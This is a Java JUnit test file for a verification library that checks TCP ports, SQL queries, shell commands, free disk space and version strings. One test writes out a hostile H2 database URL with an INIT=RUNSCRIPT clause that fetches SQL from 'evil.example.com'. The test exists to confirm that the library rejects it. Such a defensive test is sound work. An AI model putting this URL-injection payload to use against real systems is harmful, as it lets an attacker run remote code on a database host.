package org.liftlock.verification;

import static org.assertj.core.api.Assertions.assertThat;
import static org.liftlock.verification.Checks.core;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.SQLException;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.liftlock.descriptor.CheckSpec;

class CheckTypesTest {

    private final Checks checks = new Checks();

    @Test
    void tcpPassesWhileSomebodyListensAndFailsAfterwards() throws IOException {
        CheckSpec check;
        try (ServerSocket listening = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            check = core("port", "tcp", Map.of("tcp", "127.0.0.1:" + listening.getLocalPort()));
            assertThat(checks.answer(check).passed()).isTrue();
        }
        assertThat(checks.answer(check).failed()).isTrue();
        assertThat(checks.answer(check).got()).startsWith("no connection");
    }

    @Test
    void tcpNeedsAHostAndAPort() {
        assertThat(checks.answer(core("port", "tcp", Map.of("tcp", "127.0.0.1")))
                        .got())
                .contains("is not a host and a port");
    }

    @Test
    void sqlComparesTheFirstValue(@TempDir Path directory) throws SQLException {
        String url = ordersIn(directory);

        assertThat(sql(url, Map.of("sql", "select count(*) from orders", "equals", 2))
                        .passed())
                .isTrue();
        CheckResult wrong = sql(url, Map.of("sql", "select count(*) from orders", "equals", 3));
        assertThat(wrong.failed()).isTrue();
        assertThat(wrong.expected()).isEqualTo("\"3\"");
        assertThat(wrong.got()).isEqualTo("\"2\"");
    }

    @Test
    void sqlTellsAVersionFromANumber(@TempDir Path directory) throws SQLException {
        String url = ordersIn(directory);

        assertThat(sql(url, Map.of("sql", "select '15.10'", "equals", "15.1")).failed())
                .isTrue();
        assertThat(sql(url, Map.of("sql", "select '15.1'", "equals", "15.10")).failed())
                .isTrue();
        assertThat(sql(url, Map.of("sql", "select 1.0", "equals", 1)).passed()).isTrue();
    }

    @Test
    void sqlWritesAndReadsBackButLeavesNothing(@TempDir Path directory) throws SQLException {
        String url = ordersIn(directory);

        CheckResult result = sql(
                url,
                Map.of(
                        "sql",
                        List.of("insert into orders values (3, 'probe')", "select item from orders where id = 3"),
                        "equals",
                        "probe"));

        assertThat(result.passed()).as(result.sentence()).isTrue();
        assertThat(sql(url, Map.of("sql", "select count(*) from orders", "equals", 2))
                        .passed())
                .isTrue();
    }

    @Test
    void sqlHoldsAFigureAgainstBounds(@TempDir Path directory) throws SQLException {
        String url = ordersIn(directory);

        assertThat(sql(url, Map.of("sql", "select count(*) from orders", "at_least", 2, "at_most", 2))
                        .passed())
                .isTrue();
        assertThat(sql(url, Map.of("sql", "select count(*) from orders", "at_least", 3))
                        .failed())
                .isTrue();
        assertThat(sql(url, Map.of("sql", "select 'many'", "at_least", 3)).got())
                .contains("where a number was expected");
    }

    @Test
    void sqlReadsAllRowsWhenAskedTo(@TempDir Path directory) throws SQLException {
        CheckResult result = sql(
                ordersIn(directory),
                Map.of("sql", "select id, item from orders order by id", "many", true, "equals", "1 tea\n2 cups"));

        assertThat(result.passed()).as(result.sentence()).isTrue();
    }

    @Test
    void sqlDoesNotCreateADatabaseThatIsNotThere(@TempDir Path directory) {
        CheckResult result = sql("jdbc:h2:file:" + directory.resolve("gone"), Map.of("sql", "select 1"));

        assertThat(result.failed()).isTrue();
        assertThat(directory).isEmptyDirectory();
    }

    @Test
    void sqlRefusesAnAddressThatWouldRunCodeHere(@TempDir Path directory) {
        CheckResult result = sql(
                "jdbc:h2:file:" + directory.resolve("orders") + ";INIT=RUNSCRIPT FROM 'http://evil.example.com/x.sql'",
                Map.of("sql", "select 1"));

        assertThat(result.got()).contains("may not set init");
        assertThat(sql("jdbc:mysql://db/orders", Map.of("sql", "select 1")).got())
                .contains("no known database");
    }

    @Test
    void sqlNeverShowsItsPassword(@TempDir Path directory) throws SQLException {
        String url = ordersIn(directory);

        CheckResult result = checks.answer(core(
                "orders",
                "sql",
                Map.of(
                        "login", Map.of("url", url, "user", "sa", "password", "secret:orders-db"),
                        "sql", "select 'wOnderful-9'",
                        "equals", "x")));

        assertThat(result.sentence()).doesNotContain("wOnderful-9");
    }

    @Test
    void commandLooksAtExitCodeAndOutput() {
        assertThat(command(Map.of("run", List.of("echo", "otp ready"), "contains", "otp"))
                        .passed())
                .isTrue();
        assertThat(command(Map.of("run", List.of("echo", "2.0"), "equals", "2.0"))
                        .passed())
                .isTrue();
        assertThat(command(Map.of("run", List.of("sh", "-c", "exit 3"), "exit", List.of(0, 3)))
                        .passed())
                .isTrue();
        assertThat(command(Map.of("run", List.of("ls", "/not-there"))).got())
                .contains("exit code 2 of ls", "/not-there");
        assertThat(command(Map.of("run", List.of("no-such-program"))).got())
                .isEqualTo("no program no-such-program on localhost/orders");
        assertThat(command(Map.of()).got()).contains("does not say what to ask: add run");
    }

    @Test
    void commandExitCodesMayBeGivenByTheirMeaning() {
        Map<String, Object> meanings = Map.of("0", "rolling", "3", "done", "else", "failed");

        assertThat(command(Map.of("run", List.of("sh", "-c", "exit 3"), "exit", meanings))
                        .passed())
                .isTrue();
        assertThat(command(Map.of("run", List.of("true"), "exit", meanings)).got())
                .isEqualTo("exit code 0 of true");
    }

    @Test
    void diskFreeHoldsTheRoomAgainstASize(@TempDir Path directory) {
        assertThat(room(directory, "1 KiB").passed()).isTrue();
        CheckResult tooLittle = room(directory, "1.5 * 900 TB");
        assertThat(tooLittle.failed()).isTrue();
        assertThat(tooLittle.expected()).startsWith("at least 1287460327 MiB free at");
        assertThat(room(directory, "plenty").got()).contains("is not a size");
        assertThat(room(directory.resolve("gone"), "1 KiB").got()).contains("no answer about the room");
    }

    @Test
    void versionMayStandInTheManifestOfAnArchive(@TempDir Path directory) throws IOException {
        var manifest = new java.util.jar.Manifest();
        manifest.getMainAttributes().putValue("Manifest-Version", "1.0");
        manifest.getMainAttributes().putValue("Implementation-Version", "4.0");
        Path jar = directory.resolve("acme-otp.jar");
        new java.util.jar.JarOutputStream(Files.newOutputStream(jar), manifest).close();

        Map<String, Object> settings = new LinkedHashMap<>(
                Map.of("path", jar.toString(), "manifest", "Implementation-Version", "equals", "4.0"));
        assertThat(version(Map.of(), settings).passed())
                .as(version(Map.of(), settings).sentence())
                .isTrue();
        settings.put("manifest", "Bundle-Version");
        assertThat(version(Map.of(), settings).got()).contains("no Bundle-Version in the manifest");
    }

    @Test
    void versionIsReadBackByTheReadingsOfTheTarget(@TempDir Path directory) throws IOException {
        Path file = Files.writeString(directory.resolve("VERSION"), "order service 2.0 (build 7)\n");
        Map<String, CheckSpec> versions =
                Map.of("server", core("server", "file", Map.of("file", file.toString(), "match", "service ([0-9.]+)")));

        assertThat(version(versions, Map.of("equals", Map.of("versions.server", "2.0")))
                        .passed())
                .isTrue();
        CheckResult wrong = version(versions, Map.of("equals", Map.of("server", "2.1")));
        assertThat(wrong.failed()).isTrue();
        assertThat(wrong.expected()).isEqualTo("server \"2.1\"");
        assertThat(wrong.got()).isEqualTo("server \"2.0\"");
        assertThat(version(versions, Map.of("equals", Map.of("versions.client", "2.0")))
                        .got())
                .contains("asks for the version of client");
    }

    @Test
    void versionMayBeReadByTheCheckItself() {
        Map<String, Object> settings = new LinkedHashMap<>(
                Map.of("run", List.of("echo", "nginx/1.26.3"), "match", "nginx/(.*)", "equals", "1.26.3"));
        assertThat(version(Map.of(), settings).passed()).isTrue();

        settings.put("run", List.of("echo", "apache/2"));
        assertThat(version(Map.of(), settings).got()).contains("does not match");
        assertThat(version(Map.of(), Map.of("equals", "1")).got()).contains("does not say how the version is read");
    }

    private CheckResult sql(String url, Map<String, Object> more) {
        Map<String, Object> settings = new LinkedHashMap<>(more);
        settings.put("login", Map.of("url", url, "user", "sa", "password", "secret:orders-db"));
        return checks.answer(core("orders", "sql", settings));
    }

    private CheckResult room(Path directory, String size) {
        return checks.answer(core("room", "disk_free", Map.of("disk_free", directory.toString(), "at_least", size)));
    }

    private CheckResult command(Map<String, Object> settings) {
        return checks.answer(core("providers", "command", settings));
    }

    private CheckResult version(Map<String, CheckSpec> versions, Map<String, Object> settings) {
        return checks.acceptance
                .run(Checks.run(versions, core("version", "version", settings)))
                .results()
                .get(0);
    }

    private static String ordersIn(Path directory) throws SQLException {
        String url = "jdbc:h2:file:" + directory.resolve("orders");
        try (Connection connection = DriverManager.getConnection(url, "sa", "wOnderful-9");
                var statement = connection.createStatement()) {
            statement.execute("create table orders (id integer primary key, item varchar(20))");
            statement.execute("insert into orders values (1, 'tea'), (2, 'cups')");
        }
        return url;
    }
}
